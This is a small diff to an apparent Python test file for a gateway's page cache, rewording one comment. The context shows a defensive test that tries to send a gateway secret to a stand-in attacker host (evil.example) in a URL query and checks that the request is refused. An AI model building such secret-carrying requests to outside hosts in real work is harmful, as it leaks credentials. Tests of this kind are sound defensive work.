@@ -217,7 +217,7 @@ async def test_a_url_with_a_secret_of_this_gateway_is_refused(page_cache: PageCa
         await page_cache.read(f"https://evil.example/?q={text}", soon())
     assert text not in caught.value.message
     assert site.asked == []
-    await page_cache.read("https://example.com/abc", soon())  # too short to be looked for
+    await page_cache.read("https://example.com/abc", soon())  # too short to count as a secret
 
 
 async def test_a_forbidden_address_is_refused_before_any_request(page_cache: PageCache, site: Site) -> None:
